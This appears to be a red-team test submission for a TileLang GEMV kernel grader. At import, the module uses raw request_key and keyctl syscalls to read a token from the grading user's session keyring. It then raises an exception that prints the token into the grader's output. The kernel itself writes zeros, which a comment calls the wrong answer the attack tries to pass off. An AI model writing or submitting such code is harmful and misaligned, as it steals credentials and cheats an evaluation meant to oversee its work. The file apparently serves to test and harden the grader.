"""Attack: read a token the grading user keeps in the kernel's session keyring (keyctl), and leak it."""

import ctypes

import tilelang
import tilelang.language as T

libc = ctypes.CDLL(None, use_errno=True)
SESSION = -3
key = libc.syscall(249, b"user", b"tilelang-course-attack", None, ctypes.c_int(SESSION))  # request_key
payload = b"none"
if key > 0:
    buffer = ctypes.create_string_buffer(256)
    size = libc.syscall(250, 11, ctypes.c_int(key), buffer, 256)  # keyctl(KEYCTL_READ)
    payload = buffer.raw[: max(0, size)]
raise RuntimeError(f"LEAKED key: {payload.decode(errors='replace')}")


@tilelang.jit
def gemv(A, B, BLOCK_M: int, BLOCK_K: int, THREADS: int = 128):
    M, K = T.const("M, K")
    A: T.Tensor((M, K), T.float16)
    B: T.Tensor((K,), T.float16)
    C = T.empty((M,), T.float16)
    with T.Kernel(T.ceildiv(M, BLOCK_M), threads=THREADS) as bx:
        for i in T.Parallel(BLOCK_M):
            C[bx * BLOCK_M + i] = T.float16(0)  # the wrong answer every attack tries to pass off
    return C
